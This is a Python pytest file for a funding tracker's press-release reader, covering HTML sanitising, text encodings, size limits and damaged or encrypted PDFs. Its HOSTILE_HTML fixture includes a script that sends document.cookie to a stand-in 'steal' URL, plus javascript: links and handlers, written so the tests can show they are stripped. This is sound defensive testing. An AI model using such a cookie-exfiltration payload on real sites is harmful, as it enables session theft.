"""Reading an announcement's file or pasted text (``tracker.extract.source``): what is read, what is refused.

The Record page's "From a press release" tab and ``funding-tracker extract`` both call
``read_source(bytes, name)`` and ``checked_text(text, name)``, so these tests cover both ways in.
Every PDF here is built in the test (a hand-written content stream, or pypdf's writer).
"""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter

from tests.integration.cli_runner import run_cli
from tracker.extract import source
from tracker.extract.drafts import extract
from tracker.extract.source import SourceError, checked_text, read_source
from tracker.files import limits


def text_pdf(lines: list[str]) -> bytes:
    """A valid one-page PDF whose text layer holds ``lines`` (Helvetica, Windows-1252 encoding)."""
    operators = ["BT", "/F1 12 Tf", "72 720 Td", "14 TL"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        operators.append(f"({escaped}) Tj T*")
    operators.append("ET")
    stream = "\n".join(operators).encode("cp1252")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def blank_pdf() -> bytes:
    """A PDF with one page and no text layer at all (as a scanned page is, to a text reader)."""
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted(data: bytes, user_password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(user_password=user_password, owner_password="owner-only", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


RELEASE = ["Councils get over £1.5m for parks in 2020-21.", "Schools receive £500,000 a year for three years."]


def refused(data: bytes, name: str) -> str:
    with pytest.raises(SourceError) as raised:
        read_source(data, name)
    return str(raised.value)


# --- HTML: never run, never shown raw ----------------------------------------------------------

HOSTILE_HTML = """<!DOCTYPE html><html><head><title>TITLEWORD</title>
<style>p { color: red } .STYLEWORD { display: none }</style>
<script>document.write("SCRIPTWORD"); fetch("https://example.org/steal?c=" + document.cookie)</script>
<script src="https://example.org/x.js"></script></head>
<body onload="ONLOADWORD()">
<!-- COMMENTWORD: <p>£9m hidden in a comment</p> -->
<iframe src="https://example.org/frame">IFRAMEWORD £8m</iframe>
<noscript>NOSCRIPTWORD</noscript>
<p onclick="CLICKWORD()">The Minister announced <b>over £1m</b> for <a href="javascript:LINKWORD()">parks</a>
in <em>Cardiff</em> this year.</p>
<template><p>TEMPLATEWORD £7m</p></template>
<p>Schools receive <a href="https://example.org" onmouseover="HOVERWORD()">£250,000</a> for books.</p>
</body></html>"""


@pytest.mark.parametrize(
    "word",
    [
        "SCRIPTWORD",
        "STYLEWORD",
        "ONLOADWORD",
        "CLICKWORD",
        "HOVERWORD",
        "LINKWORD",
        "javascript",
        "IFRAMEWORD",
        "COMMENTWORD",
        "NOSCRIPTWORD",
        "TEMPLATEWORD",
        "document.cookie",
        "<",
        ">",
        "£9m",
        "£8m",
        "£7m",
    ],
)
def test_html_scripts_styles_handlers_frames_and_comments_never_reach_the_text(word: str) -> None:
    read = read_source(HOSTILE_HTML.encode("utf-8"), "release.html")
    assert read.form == "html"
    assert word not in read.text


def test_html_inline_markup_stays_in_its_line_and_its_amounts_are_found() -> None:
    text = read_source(HOSTILE_HTML.encode("utf-8"), "release.html").text
    assert "The Minister announced over £1m for parks in Cardiff this year." in text.split("\n")
    assert "Schools receive £250,000 for books." in text.split("\n")
    assert [(d.pence, d.qualifier) for d in extract(text).drafts] == [(100_000_000, "over"), (25_000_000, "exact")]


def test_the_inline_split_fallback_reads_a_short_page_whole() -> None:
    # too short for trafilatura's main text: its fallback would put "over £2m" on a line of its own
    page = b"<html><body><p>The Minister announced <b>over \xc2\xa32m</b> for <a href='/x'>roads</a>.</p></body></html>"
    assert read_source(page, "short.html").text == "The Minister announced over £2m for roads."
    assert source._inline_split("The Minister announced\nover £2m for roads.")
    assert not source._inline_split("Roads.\nOver £2m for roads.")


ARTICLE_PAGE = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>£14m for digital</title></head>
<body>
<div id="cookie-banner"><p>We use cookies to make this site work. COOKIEWORD <button>Accept all cookies</button></p></div>
<header><a href="/">GOV.WALES</a><nav><ul><li><a href="/news">NAVWORD News</a></li><li><a href="/about">About us</a></li>
<li><a href="/search">Search</a></li></ul></nav></header>
<main><article>
<h1>Welsh Government announces £14m for digital services</h1>
<p class="meta">First published: 31 October 2019</p>
<p>The Welsh Government has today announced over £14 million to transform digital services across Wales.</p>
<p>The funding, confirmed by the Minister for Finance, will help councils work together on shared systems.
Local authorities will receive £1.5m in 2020-21 for new digital teams.</p>
<p>The package includes:</p>
<ul><li>£500,000 a year for three years for cyber security</li><li>£2m for a Centre for Digital Public Services</li></ul>
<p>The Minister said: &ldquo;This is a significant investment in the future of our public services.&rdquo;</p>
</article></main>
<aside><h2>Related</h2><ul><li><a href="/x">RELATEDWORD £99m for roads</a></li></ul></aside>
<footer><p>FOOTERWORD &copy; Crown copyright. All content is available under the Open Government Licence v3.0.</p>
<ul><li><a href="/privacy">Privacy</a></li><li><a href="/cookies">Cookies</a></li></ul></footer>
</body></html>"""


def test_a_realistic_article_page_gives_the_article_not_its_navigation_banner_or_footer() -> None:
    text = read_source(ARTICLE_PAGE.encode("utf-8"), "news.html").text
    assert "over £14 million to transform digital services across Wales." in text
    assert "Local authorities will receive £1.5m in 2020-21 for new digital teams." in text
    assert "£500,000 a year for three years for cyber security" in text
    assert "£2m for a Centre for Digital Public Services" in text
    for word in ("COOKIEWORD", "NAVWORD", "FOOTERWORD", "RELATEDWORD", "<"):
        assert word not in text
    amounts = sorted(d.pence for d in extract(text).drafts)
    assert 1_400_000_000 in amounts and 150_000_000 in amounts and 200_000_000 in amounts


def test_html_nested_ten_thousand_deep_is_read_not_lost() -> None:
    page = b"<html><body>" + b"<div>" * 10_000 + "<p>Councils get £1m for parks.</p>".encode() + b"</div>" * 10_000
    assert read_source(page, "deep.html").text == "Councils get £1m for parks."


def test_html_with_nothing_visible_is_refused_saying_it_holds_no_text() -> None:
    page = b"<html><head><script>var x = 'only code';</script></head><body><!-- nothing --></body></html>"
    assert refused(page, "code.html") == "code.html holds no text"


# --- text: encodings, NUL, empty, control characters -----------------------------------------


@pytest.mark.parametrize(
    ("data", "how"),
    [
        ("Councils get £1m for parks.".encode(), "UTF-8"),
        ("\ufeffCouncils get £1m for parks.".encode(), "UTF-8 with a BOM"),
        (b"Councils get \xa31m for parks.", "Windows-1252 (0xA3 is the pound sign)"),
        ("Councils get £1m for parks.".encode("utf-16"), "UTF-16 with a BOM (Notepad's Unicode)"),
    ],
)
def test_text_in_each_encoding_reads_the_pound_sign(data: bytes, how: str) -> None:
    read = read_source(data, "release.txt")
    assert (read.form, read.text) == ("text", "Councils get £1m for parks."), how
    assert [d.pence for d in extract(read.text).drafts] == [100_000_000]


def test_nul_bytes_are_refused_in_a_file_and_in_pasted_text() -> None:
    assert refused(b"Councils get \x00 money", "odd.txt") == (
        "odd.txt holds NUL bytes: it is not a text, HTML or PDF file"
    )
    with pytest.raises(SourceError, match="holds NUL characters: paste plain text"):
        checked_text("Councils \x00 get £1m.", "The pasted text")


def test_empty_and_whitespace_only_are_refused() -> None:
    assert refused(b"", "empty.txt") == "empty.txt is empty"
    assert refused(b" \r\n\t \n", "blank.txt") == "blank.txt holds no text"
    with pytest.raises(SourceError, match="holds no text"):
        checked_text("  \n\n ", "The pasted text")


def test_control_characters_become_spaces_so_offsets_hold_and_the_quote_imports() -> None:
    from tracker.core.limits import check_text

    raw = "Councils get £1m for parks.\x0cSchools get \u202e£2m\u202c for books.\x07"
    text = read_source(raw.encode(), "release.txt").text
    assert len(text) == len(raw)
    assert text == "Councils get £1m for parks. Schools get  £2m  for books. "
    extraction = extract(text)
    assert [d.pence for d in extraction.drafts] == [100_000_000, 200_000_000]
    for draft in extraction.drafts:
        quote = text[draft.quote_start : draft.quote_end]
        assert check_text("quote", quote) is None
        assert text[draft.start : draft.end] in quote


def test_welsh_only_text_still_gives_its_amounts_and_says_so() -> None:
    welsh = (
        "Mae Llywodraeth Cymru wedi cyhoeddi £1.5 miliwn i gynghorau yng Nghymru ar gyfer gwasanaethau lleol.\n"
        "Bydd y cyllid hefyd yn cynnwys £250,000 ar gyfer ysgolion yn yr ardal.\n"
    )
    extraction = extract(read_source(welsh.encode(), "datganiad.txt").text)
    assert extraction.welsh_only
    assert [d.pence for d in extraction.drafts] == [150_000_000, 25_000_000]


# --- size limits: refused before reading ------------------------------------------------------


def test_a_file_over_the_byte_limit_is_refused_before_it_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_PRESS_RELEASE_BYTES", 1_000)
    assert read_source(b"\xa31m" + b" " * 996, "at-limit.txt").text.startswith("£1m")  # 1,000 bytes: read

    def never(*_args: object) -> str:
        raise AssertionError("the file was read")

    monkeypatch.setattr(source, "_decoded", never)
    monkeypatch.setattr(source, "_pdf_text", never)
    assert refused(b"x" * 1_001, "big.txt") == "big.txt is larger than 0.0 MB, the most a press release file may be"
    assert refused(b"%PDF-1.4" + b" " * 1_000, "big.pdf").startswith("big.pdf is ")
    monkeypatch.setattr(limits, "MAX_PRESS_RELEASE_BYTES", 10 * 1024 * 1024)
    assert refused(b"x" * (10 * 1024 * 1024 + 1), "big.txt") == (
        "big.txt is larger than 10.0 MB, the most a press release file may be"
    )


def test_the_cli_reads_at_most_one_byte_past_the_limit(tmp_path: Path) -> None:
    big = tmp_path / "big.txt"
    with big.open("wb") as handle:  # 30 MB, sparse: the CLI must stop reading at 10 MB + 1
        handle.seek(30 * 1024 * 1024 - 1)
        handle.write(b"x")
    result = run_cli(None, "extract", str(big), "--format", "csv", cwd=tmp_path)
    assert result.returncode == 1
    assert result.stderr.strip() == (
        f"funding-tracker extract: {big} is larger than 10.0 MB, the most a press release file may be"
    )


def test_text_over_the_character_limit_is_refused_not_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_PRESS_RELEASE_CHARS", 100)
    assert refused(("£1m. " * 21).encode(), "long.txt") == (
        "long.txt holds 105 characters of text; at most 100 are read (one announcement at a time)"
    )
    assert checked_text("£1m. " * 20, "The pasted text") == "£1m. " * 20
    with pytest.raises(SourceError, match="holds 101 characters"):
        checked_text("x" * 101, "The pasted text")


# --- PDF ---------------------------------------------------------------------------------------


def test_a_pdf_text_layer_is_read_and_its_amounts_found() -> None:
    read = read_source(text_pdf(RELEASE), "release.pdf")
    assert read.form == "pdf"
    assert read.text.split("\n")[:2] == RELEASE
    drafts = extract(read.text).drafts
    assert [(d.pence, d.qualifier, d.kind) for d in drafts] == [
        (150_000_000, "over", "one-off"),
        (50_000_000, "exact", "recurring"),
    ]


def test_a_pdf_is_known_by_its_bytes_whatever_its_name() -> None:
    assert read_source(text_pdf(RELEASE), "upload").form == "pdf"


def test_a_pdf_without_a_text_layer_is_refused_as_a_scanned_image() -> None:
    assert refused(blank_pdf(), "scan.pdf") == "scan.pdf: no text found; is it a scanned image?"


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.4 garbage", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R >>\nendobj\n%%EOF\n"],
)
def test_a_damaged_pdf_is_refused_with_a_message_never_a_traceback(
    data: bytes, capsys: pytest.CaptureFixture[str]
) -> None:
    message = refused(data, "damaged.pdf")
    assert message.startswith("damaged.pdf could not be read as a PDF (")
    assert message.endswith("): save it again from the program that made it")
    assert capsys.readouterr().err == ""  # pypdf's own warnings are not printed


def test_a_file_named_pdf_that_is_not_one_is_refused_saying_so() -> None:
    zipped = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"a zip archive" * 10
    assert refused(zipped, "release.pdf") == "release.pdf is not a PDF: it does not start with %PDF-"


def test_an_encrypted_pdf_is_refused_unless_its_user_password_is_empty() -> None:
    assert refused(encrypted(text_pdf(RELEASE), "secret"), "locked.pdf") == (
        "locked.pdf is protected by a password: save it without one"
    )
    read = read_source(encrypted(text_pdf(RELEASE), ""), "owner-only.pdf")
    assert read.text.split("\n")[:2] == RELEASE


def test_the_cli_refuses_a_damaged_pdf_with_one_line_and_exit_1(tmp_path: Path) -> None:
    damaged = tmp_path / "damaged.pdf"
    damaged.write_bytes(b"%PDF-1.4 garbage")
    result = run_cli(None, "extract", str(damaged), "--format", "csv", cwd=tmp_path)
    assert result.returncode == 1
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"funding-tracker extract: {damaged} could not be read as a PDF")
    assert "Traceback" not in result.stderr and result.stdout == ""
